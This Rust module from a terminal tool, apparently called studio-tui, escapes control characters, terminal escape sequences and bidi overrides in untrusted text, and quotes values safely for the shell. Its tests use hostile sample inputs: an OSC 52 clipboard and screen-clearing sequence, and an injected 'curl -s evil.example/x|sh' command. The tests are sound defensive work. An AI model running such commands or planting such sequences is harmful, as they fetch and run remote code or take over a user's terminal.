//! Foreign text made safe to show: whatever studio-tui did not write itself (AWS responses,
//! firewall log records, user input echoed back) goes through [`shown`] before a printer or a
//! widget puts it on a terminal. A host name from the firewall's alert log is chosen by whoever
//! made the connection inside the VPC, so it can hold escape sequences (clear the screen, set
//! the clipboard with OSC 52, draw a link with OSC 8), carriage returns that forge lines, or
//! bidi overrides that make text read backwards.
//!
//! The escaped form is the one `--json` uses, so the same value reads the same in every mode:
//! `\n`, `\r`, `\t`, `\\` for a backslash, and `\u` with four lowercase hex digits for every
//! other control character (C0, DEL, C1: U+0080–U+009F), for the bidi controls (U+061C,
//! U+200E, U+200F, U+202A–U+202E, U+2066–U+2069) and for the line and paragraph separators
//! (U+2028, U+2029). ESC starts every CSI and OSC sequence, so a sequence shows as
//! `\u001b[2J` or `\u001b]52;…`: visible, inert. Everything else (accents, CJK, emoji) is kept.
//! A value longer than its limit is cut and ends with `…`.

use std::borrow::Cow;
use std::fmt;

/// The longest value shown whole, in characters after escaping: a CloudFormation StatusReason,
/// a SageMaker FailureReason and studio-tui's longest fix (a validation failure's, with its
/// `aws` commands) fit; a 100 KB value echoed back does not.
pub const LIMIT: usize = 1000;

/// `text` escaped (see the module) and cut to [`LIMIT`] characters.
pub fn shown(text: &str) -> Cow<'_, str> {
    shown_max(text, LIMIT)
}

/// `text` escaped, never cut: for a value that is only useful whole (a sign-in URL).
pub fn escaped(text: &str) -> Cow<'_, str> {
    shown_max(text, usize::MAX)
}

/// `text` escaped and cut to `max` characters (the `…` included). An escape is never cut in
/// half.
pub fn shown_max(text: &str, max: usize) -> Cow<'_, str> {
    let total: usize = text.chars().map(escaped_len).sum();
    if total <= max {
        if !text.chars().any(needs_escape) {
            return Cow::Borrowed(text);
        }
        let mut out = String::with_capacity(text.len() + 8);
        text.chars().for_each(|c| push_escaped(&mut out, c));
        return Cow::Owned(out);
    }
    let mut out = String::new();
    let mut used = 0usize;
    for c in text.chars() {
        let n = escaped_len(c);
        if used + n > max.saturating_sub(1) {
            break;
        }
        push_escaped(&mut out, c);
        used += n;
    }
    out.push('…');
    Cow::Owned(out)
}

/// How many characters `c` takes once escaped.
fn escaped_len(c: char) -> usize {
    match c {
        '\n' | '\r' | '\t' | '\\' => 2,
        c if needs_escape(c) => 6,
        _ => 1,
    }
}

/// A whole message made inert, for the last guard of a printer whose text is studio-tui's own
/// with foreign values in it: its line breaks and backslashes are kept (the foreign values in
/// it went through [`shown`] already, and escaping twice would garble them), every other
/// character [`shown`] escapes is escaped, and each line is cut to `LIMIT * 4` characters.
pub fn inert(text: &str) -> Cow<'_, str> {
    let risky = |c: char| c != '\n' && c != '\\' && needs_escape(c);
    if !text.chars().any(risky) && text.lines().all(|l| l.len() <= LIMIT * 4) {
        return Cow::Borrowed(text);
    }
    let lines: Vec<String> = text
        .split('\n')
        .map(|line| {
            let mut out = String::new();
            let mut used = 0usize;
            for c in line.chars() {
                let n = if c == '\\' { 1 } else { escaped_len(c) };
                if used + n > LIMIT * 4 - 1 {
                    out.push('…');
                    break;
                }
                if c == '\\' {
                    out.push(c);
                } else {
                    push_escaped(&mut out, c);
                }
                used += n;
            }
            out
        })
        .collect();
    Cow::Owned(lines.join("\n"))
}

/// A [`shown`] value as a `Display`, for `format!` arguments.
pub struct Shown<'a>(pub &'a str);

impl fmt::Display for Shown<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&shown(self.0))
    }
}

/// One word of a command printed for the user to paste: `value` quoted for a POSIX shell, or
/// None when no printed form of it is safe (empty, or holding a character [`shown`] would
/// escape, so the printed command would not be the one that runs). Callers validate the value
/// with the rules of the command first; this is the last guard, not the validation.
pub fn shell_word(value: &str) -> Option<Cow<'_, str>> {
    if value.is_empty() || value.chars().any(needs_escape) {
        return None;
    }
    shlex::try_quote(value).ok()
}

/// Whether `c` is shown escaped: a control character, a bidi control, a line or paragraph
/// separator, or the backslash that starts every escape.
pub fn needs_escape(c: char) -> bool {
    c.is_control() || is_bidi_control(c) || matches!(c, '\u{2028}' | '\u{2029}' | '\\')
}

/// The characters that change the direction text is drawn in (Unicode bidi controls).
fn is_bidi_control(c: char) -> bool {
    matches!(
        c,
        '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}'
    )
}

fn push_escaped(out: &mut String, c: char) {
    match c {
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        '\t' => out.push_str("\\t"),
        '\\' => out.push_str("\\\\"),
        c if needs_escape(c) => out.push_str(&format!("\\u{:04x}", u32::from(c))),
        c => out.push(c),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn plain_text_is_kept_as_it_is() {
        for t in [
            "github.com",
            "Resource creation cancelled",
            "Zürich 東京 ✔",
            "",
        ] {
            assert!(matches!(shown(t), Cow::Borrowed(s) if s == t));
        }
    }

    #[test]
    fn escape_sequences_and_controls_are_visible_and_inert() {
        let host = "evil.example\u{1b}]52;c;Y3VybA==\u{7}\u{1b}[2J\rok";
        assert_eq!(
            shown(host),
            "evil.example\\u001b]52;c;Y3VybA==\\u0007\\u001b[2J\\rok"
        );
        assert_eq!(
            shown("a\nb\tc\u{7f}d\u{9b}31m"),
            "a\\nb\\tc\\u007fd\\u009b31m"
        );
        assert_eq!(
            shown("C:\\x"),
            "C:\\\\x",
            "a backslash cannot fake an escape"
        );
    }

    #[test]
    fn bidi_controls_are_escaped() {
        let s = shown("txt.\u{202e}exe\u{2066}\u{2069}\u{200e}\u{200f}\u{61c}\u{2028}");
        assert_eq!(
            s,
            "txt.\\u202eexe\\u2066\\u2069\\u200e\\u200f\\u061c\\u2028"
        );
    }

    #[test]
    fn long_values_are_cut_with_an_ellipsis() {
        let long = "x".repeat(100_000);
        let s = shown(&long);
        assert_eq!(s.chars().count(), LIMIT);
        assert!(s.ends_with('…'));
        assert_eq!(shown_max("abcdef", 6), "abcdef");
        assert_eq!(shown_max("abcdefg", 6), "abcde…");
        // an escape is never cut in half
        assert_eq!(shown_max("abcd\u{1b}", 6), "abcd…");
        assert_eq!(shown_max("ab\u{1b}", 8), "ab\\u001b");
    }

    #[test]
    fn inert_keeps_line_breaks_and_backslashes_and_escapes_the_rest() {
        assert_eq!(inert("one\ntwo \\u001b"), "one\ntwo \\u001b");
        assert_eq!(inert("a\u{1b}[2J\r\u{202e}b"), "a\\u001b[2J\\r\\u202eb");
        let long = format!("x{}", "y".repeat(100_000));
        assert_eq!(inert(&long).chars().count(), LIMIT * 4);
    }

    #[test]
    fn shell_words_are_quoted_or_refused() {
        assert_eq!(shell_word("github.com").as_deref(), Some("github.com"));
        assert_eq!(
            shell_word("files.example;curl -s evil.example/x|sh;#").as_deref(),
            Some("'files.example;curl -s evil.example/x|sh;#'")
        );
        assert_eq!(shell_word("it's").as_deref(), Some("\"it's\""));
        assert_eq!(shell_word("a$(id)").as_deref(), Some("'a$(id)'"));
        assert_eq!(shell_word(""), None);
        assert_eq!(shell_word("a\u{1b}[2J"), None);
        assert_eq!(shell_word("a\\b"), None);
    }

    proptest! {
        #[test]
        fn nothing_a_terminal_acts_on_survives(s in "\\PC*|[\\x00-\\x{ff}\\x{2000}-\\x{206f}]*") {
            let out = shown(&s);
            let acts = |c: char| c.is_control() || is_bidi_control(c) || "\u{2028}\u{2029}".contains(c);
            prop_assert!(!out.chars().any(acts), "{:?}", out);
            prop_assert!(out.chars().count() <= LIMIT);
        }

        #[test]
        fn short_values_read_back_exactly(s in "[\\x00-\\x21\\x23-\\x{ff}\\x{202a}-\\x{202e}]{0,60}") {
            // The escapes are JSON's: a JSON string of the shown text decodes to the input.
            let json = format!("\"{}\"", shown(&s));
            let back: String = serde_json::from_str(&json).unwrap();
            prop_assert_eq!(back, s);
        }
    }
}
